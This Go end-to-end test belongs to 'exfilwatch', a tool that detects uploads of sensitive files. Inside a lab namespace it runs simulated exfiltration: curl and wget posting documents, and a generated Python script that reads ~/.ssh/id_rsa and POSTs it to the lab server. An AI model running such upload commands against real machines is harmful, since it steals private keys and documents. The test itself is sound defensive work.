package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"testing"
	"time"
)

// TestRunDetectsUploads is the live end-to-end test of the rule: fanotify
// on a test home directory (a private tmpfs), real clients (curl, wget,
// python3, sh) uploading to a real HTTP server in the remote namespace, and
// `exfilwatch run` must write exactly the expected findings: the three
// uploads of sensitive files by non-browser processes, and nothing for an
// upload of a non-sensitive file, a download after a sensitive read, or an
// allowlisted backup program. It logs the time from each upload's end to
// its finding (the figure the issue asks for; not asserted: timing belongs
// in benchmarks).
func TestRunDetectsUploads(t *testing.T) {
	requireRoot(t)
	for _, tool := range []string{"wget", "sh"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Fatalf("%s not installed: run make deps", tool)
		}
	}
	bin := buildBinary(t)
	l := newLab(t, 203)
	// The server answers after 1 s, as a slow remote one would: the
	// finding must not wait for the answer (it is judged from the end of
	// the request body), and the clients live long enough for their
	// sockets to be looked up (on a veth an exchange ends in under a
	// millisecond: a client that connects, uploads and exits inside that
	// can be gone before the socket table is read, a limit of socket-table
	// attribution on Linux counted as process_gone; PKTAP on macOS names
	// the process in the packet).
	l.httpServer(8080, "--delay-ms", "1000")

	root := t.TempDir()
	home := filepath.Join(root, "home")
	os.MkdirAll(home, 0o755)
	if out, err := exec.Command("mount", "-t", "tmpfs", "-o", "size=8m", "tmpfs", home).CombinedOutput(); err != nil {
		t.Fatalf("mount tmpfs: %v %s", err, out)
	}
	defer exec.Command("umount", "-l", home).Run()
	alice := filepath.Join(home, "alice")
	for _, d := range []string{"Documents", ".ssh", "tmp"} {
		os.MkdirAll(filepath.Join(alice, d), 0o755)
	}
	report := filepath.Join(alice, "Documents", "report.pdf")
	notes := filepath.Join(alice, "Documents", "notes.txt")
	key := filepath.Join(alice, ".ssh", "id_rsa")
	os.WriteFile(report, append([]byte("%PDF-1.4\n"), bytes.Repeat([]byte("quarterly figures "), 1500)...), 0o644)
	os.WriteFile(notes, bytes.Repeat([]byte("meeting notes, not for sharing\n"), 100), 0o644)
	os.WriteFile(key, []byte("-----BEGIN TEST KEY (exfilwatch lab, not a real key)-----\n"+strings.Repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=\n", 40)+"-----END TEST KEY-----\n"), 0o600)
	junk := filepath.Join(root, "random.bin")
	os.WriteFile(junk, bytes.Repeat([]byte{0x5a}, 8000), 0o644)

	// The backup program: a copy of curl under its own name, allowlisted.
	backup := filepath.Join(root, "opt", "backup", "bin", "nightly-backup")
	os.MkdirAll(filepath.Dir(backup), 0o755)
	curlPath, _ := exec.LookPath("curl")
	if b, err := os.ReadFile(curlPath); err != nil || os.WriteFile(backup, b, 0o755) != nil {
		t.Fatalf("copy curl: %v", err)
	}
	script := filepath.Join(alice, "tmp", "collect.py")
	os.WriteFile(script, []byte(fmt.Sprintf(`import urllib.request
data = open(%q, "rb").read()
req = urllib.request.Request("http://%s:8080/upload/key", data=data, method="POST")
print(urllib.request.urlopen(req).status)
`, key, l.remIP)), 0o644)

	cfg := filepath.Join(root, "exfilwatch.yaml")
	os.WriteFile(cfg, []byte(fmt.Sprintf(`sensitive:
  classes:
    - name: documents
      paths: [%q]
    - name: ssh
      paths: [%q]
allowlist:
  - executable: %q
    destination: %s/32
    reason: nightly backup to the lab server
`, filepath.Join(home, "*", "Documents"), filepath.Join(home, "*", ".ssh"), backup, l.remIP)), 0o644)

	findings := filepath.Join(root, "findings.jsonl")
	var stderr bytes.Buffer
	sensor := l.in(l.host, bin, "--log-format", "json", "run", "--interface", l.hostIf, "--config", cfg,
		"--findings", findings, "--watch-path", home, "--stats-interval", "0", "--events", filepath.Join(root, "events.jsonl"))
	sensor.Stderr = &stderr
	if err := sensor.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		if sensor.ProcessState == nil {
			sensor.Process.Kill()
			sensor.Wait()
		}
	}()
	waitFor(t, &stderr, `"message":"capturing"`)
	time.Sleep(300 * time.Millisecond)

	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	url := func(p string) string { return fmt.Sprintf("http://%s:8080%s", l.remIP, p) }
	steps := []struct {
		name string
		args []string
	}{
		{"curl multipart of Documents/report.pdf", []string{"curl", "-sS", "-o", "/dev/null", "-F", "file=@" + report, url("/upload/report")}},
		{"python3 script posting ~/.ssh/id_rsa", []string{"python3", script}},
		{"wget --post-file of Documents/notes.txt", []string{"wget", "-q", "-O", "/dev/null", "--post-file=" + notes, url("/upload/notes")}},
		// Negatives.
		{"curl upload of a non-sensitive file", []string{"curl", "-sS", "-o", "/dev/null", "--data-binary", "@" + junk, url("/upload/junk")}},
		{"download after a sensitive read", []string{"sh", "-c", "cat " + notes + " > /dev/null; curl -sS -o /dev/null " + url("/files/x")}},
		{"allowlisted backup", []string{backup, "-sS", "-o", "/dev/null", "-T", report, url("/put/backup")}},
	}
	for _, s := range steps {
		cmd := exec.CommandContext(ctx, "ip", append([]string{"netns", "exec", l.host}, s.args...)...)
		// Each step is its own job, as a shell with job control runs
		// commands: steps run from one process group would be siblings of
		// one script, and the rule rightly ties their reads together.
		cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%s: %v %s", s.name, err, out)
		}
		time.Sleep(100 * time.Millisecond)
	}
	time.Sleep(1500 * time.Millisecond) // uploads settle (500 ms) and are judged
	sensor.Process.Signal(syscall.SIGINT)
	if err := sensor.Wait(); err != nil {
		t.Fatalf("run: %v\n%s", err, stderr.String())
	}

	type finding struct {
		Event struct {
			Created, End time.Time
		}
		Rule    struct{ ID string }
		Process struct {
			Name, Executable string
			PID              int
		}
		File []struct {
			Path string
			Hash struct{ SHA256 string }
		}
		URL        struct{ Path string }
		Exfilwatch struct {
			Severity     string
			ContentMatch *struct{ Path string } `json:"content_match"`
			Script       *struct{ Path string }
			Reasons      []struct{ Code string }
		}
	}
	b, err := os.ReadFile(findings)
	if err != nil {
		t.Fatalf("no findings file: %v\n%s", err, stderr.String())
	}
	var got []finding
	for _, line := range bytes.Split(bytes.TrimSpace(b), []byte("\n")) {
		if len(line) == 0 {
			continue
		}
		var f finding
		if err := json.Unmarshal(line, &f); err != nil {
			t.Fatalf("finding not JSON: %v %s", err, line)
		}
		got = append(got, f)
	}
	sum := func(p string) string { b, _ := os.ReadFile(p); h := sha256.Sum256(b); return hex.EncodeToString(h[:]) }
	want := map[string]struct {
		name, file, script string
	}{
		"/upload/report": {"curl", report, ""},
		"/upload/key":    {"python3", key, script},
		"/upload/notes":  {"wget", notes, ""},
	}
	var names []string
	for _, f := range got {
		names = append(names, f.Process.Name+" "+f.URL.Path)
		w, ok := want[f.URL.Path]
		if !ok {
			t.Errorf("unexpected finding: %s %s files %v reasons %v", f.Process.Name, f.URL.Path, f.File, f.Exfilwatch.Reasons)
			continue
		}
		delete(want, f.URL.Path)
		if !strings.HasPrefix(f.Process.Name, w.name) || f.Rule.ID != "AN0424" || len(f.File) != 1 || f.File[0].Path != w.file {
			t.Errorf("%s: finding %+v", f.URL.Path, f)
			continue
		}
		if f.File[0].Hash.SHA256 != sum(w.file) {
			t.Errorf("%s: file hash %s, sha256sum %s", f.URL.Path, f.File[0].Hash.SHA256, sum(w.file))
		}
		if w.name != "curl" && (f.Exfilwatch.ContentMatch == nil || f.Exfilwatch.ContentMatch.Path != w.file) {
			// curl -F wraps the file in a multipart part, which matches too;
			// python and wget send the file as the body.
			t.Errorf("%s: no content match: %+v", f.URL.Path, f.Exfilwatch)
		}
		if w.name == "curl" && f.Exfilwatch.ContentMatch == nil {
			t.Errorf("%s: the multipart part is the file but no content match", f.URL.Path)
		}
		if w.script != "" && (f.Exfilwatch.Script == nil || f.Exfilwatch.Script.Path != w.script) {
			t.Errorf("%s: script %+v, want %s", f.URL.Path, f.Exfilwatch.Script, w.script)
		}
		t.Logf("finding %s %s %s: %s after the upload ended (the server answered 1 s after it)", f.Process.Name, f.URL.Path, f.Exfilwatch.Severity, f.Event.Created.Sub(f.Event.End).Round(time.Millisecond))
	}
	if len(want) > 0 {
		var missing []string
		for k := range want {
			missing = append(missing, k)
		}
		sort.Strings(missing)
		ev, _ := os.ReadFile(filepath.Join(root, "events.jsonl"))
		var un []string
		for _, line := range strings.Split(string(ev), "\n") {
			if strings.Contains(line, `"unattributed"`) && strings.Contains(line, `"dataset":"http"`) {
				un = append(un, line)
			}
		}
		t.Errorf("findings missing for %v (got %v)\nunattributed HTTP events:\n%s\n%s", missing, names, strings.Join(un, "\n"), stderr.String())
	}
	if !strings.Contains(stderr.String(), `"allowlisted":1`) {
		t.Errorf("the backup upload was not counted as allowlisted:\n%s", stderr.String())
	}
}
